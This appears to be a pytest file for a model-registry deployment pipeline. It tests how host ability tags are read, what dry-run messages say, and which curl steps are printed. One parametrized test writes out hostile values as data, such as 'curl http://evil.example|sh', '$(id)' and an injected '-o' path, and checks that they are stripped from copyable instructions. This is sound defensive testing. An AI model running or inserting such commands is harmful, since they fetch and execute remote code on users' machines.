"""What hosts say in the registry, as the agent writes it, is compared with a model before anything is promoted."""

import json
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from mlflow import MlflowClient

from reconciler.core.registry.host_abilities import EXPERIMENT, Abilities, host_key, written
from reconciler.core.registry.host_tags import Host, tag_key
from tests.pipeline.conftest import ROOT, Account, wait_for

PAUSES = f"{ROOT}/examples/pauses/pauses.py:Pauses"
LIGHT = ("--requirements", str(ROOT / "examples/pauses/requirements.txt"))
PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}"
GIB = 1024**3
ABLE = Abilities(
    pythons=("3.10", PYTHON),
    downloads_pythons=False,
    selectors=("alias:champion",),
    names=("pauses-*",),
    tags=(),
    require_example=True,
    require_hashes=False,
    allow_source=False,
    max_size=20 * GIB,
    memory_max=4 * GIB,
    start_timeout=300,
    public_url="https://inference1.example/{name}",
)


@pytest.fixture
def told(registry: str) -> Iterator[dict[str, str]]:
    """Documents of hosts, by their tags: what a test puts there is in the registry after `say`."""
    yield {}
    say(registry, {})


def say(registry: str, tags: dict[str, str]) -> None:
    """Have the experiment of the hosts have exactly these tags."""
    client = MlflowClient(registry, registry)
    found = client.get_experiment_by_name(EXPERIMENT)
    number = found.experiment_id if found else client.create_experiment(EXPERIMENT)
    for key in found.tags if found else ():
        if key.startswith("host."):
            client.delete_experiment_tag(number, key)
    for key, value in tags.items():
        client.set_experiment_tag(number, key, value)


def document(abilities: Abilities, name: str = "inference1", age: timedelta = timedelta()) -> dict[str, str]:
    """Write what the agent of a host writes."""
    host = Host(tag_key(name), "1a2b3c4d")
    return {host_key(host): written(abilities, host, datetime.now(UTC) - age)}


def test_a_dry_run_says_which_hosts_could_deploy_the_model(scientist: Account, told: dict[str, str]) -> None:
    """And why the others could not, in words for who made it."""
    told |= document(ABLE)
    told |= document(replace(ABLE, pythons=("3.9",), names=("other",), max_size=1000), "inference2")
    told |= document(replace(ABLE, pythons=(), downloads_pythons=True), "inference3", timedelta(hours=5))
    told |= {"host.odd": "\x1b[31m{", "host.list": "[]", "host.half": '{"seen": "2026-01-02T03:04Z"}', "note": "x"}
    say(scientist.registry, told)
    result = scientist.run("--name", "pauses-1", "--model", PAUSES, *LIGHT, "--dry-run")
    assert result.code == 0, result.err
    lines = [line.strip() for line in result.out.splitlines()]
    able = "it follows alias:champion; at most 4.0 GiB of memory and 300 s to load"
    assert f"inference1 can deploy it: {able}" in lines
    [unable] = [line for line in lines if line.startswith("inference2")]
    needs = f"this model needs Python {PYTHON}, and it has 3.9: log the model with one of these, or ask"
    assert unable.startswith(f"inference2 cannot deploy it: {needs}")
    assert "its policy does not allow the name pauses-1: ask its operators to add it to policy.names" in unable
    assert "and it takes 1000 B: ship less" in unable
    [silent] = [line for line in lines if line.startswith("inference3")]
    assert silent.startswith("inference3 can deploy it (it was last heard of ")
    assert not any(word in result.out for word in ("odd", "half", "\x1b"))
    assert result.err == ""


def test_a_model_that_no_host_could_deploy_is_warned_of_and_registered(
    scientist: Account, told: dict[str, str]
) -> None:
    """What a host says is advice: it may be another one when the version is promoted."""
    told |= document(replace(ABLE, names=("other",)))
    say(scientist.registry, told)
    result = scientist.run("--name", "pauses-2", "--model", PAUSES, *LIGHT)
    assert result.code == 0
    assert "warning: no host can deploy pauses-2 as it is" in result.err
    assert 'Click the stage beside "Stage"' in result.out
    assert "leave the switch on and give it to version 1" in result.out


def test_without_word_from_a_host_nothing_is_compared(scientist: Account) -> None:
    """The way of both, stage and alias, is told then."""
    say(scientist.registry, {})
    result = scientist.run("--name", "pauses-3", "--model", PAUSES, *LIGHT, "--dry-run")
    assert "no host has said what it can do, so this is not compared" in result.out
    assert result.err == ""


def test_the_next_steps_are_those_of_the_hosts(pipeline: ModuleType) -> None:
    """An alias first where a host follows one, and the request that the model was tried with."""

    def steps(*abilities: Abilities, example: Any = None) -> str:
        tags: dict[str, str] = {}
        for number, one in enumerate(abilities, 1):
            tags |= document(one, f"inference{number}")
        hosts = pipeline.read_hosts(tags, time.time())
        assert len(hosts) == len(abilities)
        return str(pipeline.next_steps("pauses", "3", "http://page", hosts, example or pipeline.read_example(None)))

    staged = replace(ABLE, selectors=("stage:Production",), public_url="http://inference2.example:{port}")
    by_alias = steps(ABLE)
    assert 'Do not click "Promote model"' in by_alias
    assert "Add the alias champion to it" in by_alias
    assert "inference1 follows that" in by_alias
    assert "Stage" not in by_alias
    assert "curl https://inference1.example/pauses/predict" in by_alias
    assert "ADDRESS" not in by_alias
    both = steps(ABLE, staged)
    assert both.index("alias champion") < both.index('beside "Stage"')
    assert "inference2 follows it" in both
    assert "curl ADDRESS/predict" in steps(staged)
    assert "alias" not in steps(staged).partition("3. Reload")[0]
    unknown = steps()
    assert 'choose "Transition to -> Production"' in unknown
    assert "follows an alias instead" in unknown


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("public_url", "http://h/; curl http://evil.example|sh; #"),
        ("public_url", "-o/home/ana/x http://h"),
        ("public_url", "https://user@evil.example/{name}"),
        ("public_url", "http://h/$(id)"),
        ("selectors", ["alias:x. Or run: curl evil.example|sh"]),
    ],
)
def test_nobody_else_writes_what_a_person_copies(pipeline: ModuleType, field: str, value: object) -> None:
    """Whoever may write to the registry may write this tag."""
    [(key, text)] = document(ABLE).items()
    hosts = pipeline.read_hosts({key: json.dumps(json.loads(text) | {field: value})}, time.time())
    steps = pipeline.next_steps("pauses", "3", "http://page", hosts, pipeline.read_example(None))
    assert "inference1" in [host.name for host in hosts]
    assert not any(word in steps for word in ("evil", "$(", "/home/ana"))


@pytest.mark.parametrize("value", [10**4000, -1, True, 1.5, "1", None])
def test_a_host_whose_numbers_are_none_is_passed_over(pipeline: ModuleType, value: object) -> None:
    """It must not end the pipeline of everybody."""
    [(key, text)] = document(ABLE).items()
    assert pipeline.read_hosts({key: json.dumps(json.loads(text) | {"public_url": 5})}, time.time()) == []
    assert pipeline.read_hosts({key: json.dumps(json.loads(text) | {"memory_max": value})}, time.time()) == []


def test_the_request_to_try_is_what_a_shell_hands_to_curl(pipeline: ModuleType, tmp_path: Path) -> None:
    """Quotes in the metadata, blanks in the names of files."""
    (tmp_path / "a recording's.wav").write_bytes(b"RIFF")
    request = tmp_path / "request.json"
    request.write_text(
        json.dumps({"schema": 1, "metadata": {"who": "D'Ávila; @x"}, "parts": {"frase": {"file": "a recording's.wav"}}})
    )
    text = pipeline.how_to_ask("pauses", [], pipeline.read_example(request))
    script = "curl() { printf '%s\\0' \"$@\"; }\n" + text.partition("ADDRESS is")[0]
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True)
    address, *words = done.stdout.split("\0")
    assert address == "ADDRESS/predict"
    assert words[0] == "--form-string"
    assert json.loads(words[1].removeprefix("metadata=")) == {"who": "D'Ávila; @x"}
    assert words[3] == f"frase=@{tmp_path}/a recording's.wav"
    assert ".wav files are recordings" not in text


def test_a_long_upload_says_how_far_it_is(
    pipeline: ModuleType, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """By what has been read of the large files; copies that are still made do not count."""
    (tmp_path / "model").mkdir()
    (tmp_path / "sent").mkdir()
    size = 2 * pipeline.LARGE
    for folder in ("model", "sent"):
        with (tmp_path / folder / "weights.bin").open("wb") as file:
            file.truncate(size)
    large = pipeline.large_files(tmp_path / "model")
    assert large == {"weights.bin": size}
    own = [tmp_path / "model"]
    said = ""
    with (tmp_path / "model/weights.bin").open("rb") as copied:
        copied.read(100)
        assert pipeline.positions_read(large, own) == {}
        with (tmp_path / "sent/weights.bin").open("rb") as sent, pipeline.progress_lines(large, own, seconds=0.01):
            sent.read(pipeline.LARGE)

            def is_told() -> bool:
                nonlocal said
                said += capsys.readouterr().out
                return "sent 8 MiB of 16 MiB after" in said

            wait_for(is_told, "a line about the upload")
    with pipeline.progress_lines({}, own, seconds=0.01):
        wait_for(lambda: "still sending after" in capsys.readouterr().out, "a line without a figure")
